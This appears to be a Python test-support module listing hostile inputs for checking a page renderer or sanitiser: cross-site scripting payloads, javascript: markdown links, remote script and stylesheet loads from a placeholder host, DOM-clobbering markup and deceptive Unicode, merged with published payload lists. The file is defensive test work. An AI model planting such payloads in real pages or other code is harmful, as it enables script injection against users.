"""Texts that try to run a script, to break a page, or to hide what they say: our own, and published lists beside us."""

import json
from itertools import islice
from pathlib import Path

PAYLOADS = Path(__file__).parents[2] / "shared" / "payloads"
EVERY_LIST_AT_MOST = 400

OWN = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//elsewhere.invalid/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)" ',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<base href=//elsewhere.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//elsewhere.invalid/x.css>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</article></main></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "{{7*7}}{% raw %}${alert(1)}<%= 7*7 %>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//elsewhere.invalid/path)",
    "[x](/account/deletion)",
    '[x](https://e.org "onmouseover=alert(1) x=\\"")',
    "![x](https://elsewhere.invalid/pixel.gif)",
    "![x](javascript:alert(1))",
    '<https://e.org/" onmouseover=alert(1)>',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```" onmouseover=alert(1)\nx\n```',
    "> " * 8 + "<script>alert(1)</script>",
    "*" * 200 + "<b onclick=alert(1)>x</b>",
    "<p id=announcer>a clobbered name</p>",
    "<img name=getElementById><form id=document><input name=cookie>",
    "\u202eevil\u2066 text that runs backwards",
    "zero\u200bwidth\u200djoin\ufeff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 20,
    "a" * 3000,
    "\u0000null\u0008\u001b[31m",
    "\ud83d\ude00 \U000e0041\U000e007f",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "\u2028alert(1)\u2029",
)


def hostile_texts() -> list[str]:
    """OWN, and what the published lists hold where they lie beside the repository; of a long list, every n-th."""
    published = []
    for path in sorted(PAYLOADS.glob("*.json")):
        texts = [text for text in json.loads(path.read_text("utf-8")) if text.strip()]
        published += islice(texts, 0, None, 1 + len(texts) // EVERY_LIST_AT_MOST)
    return [text.encode("utf-8", "replace").decode() for text in (*OWN, *published)]
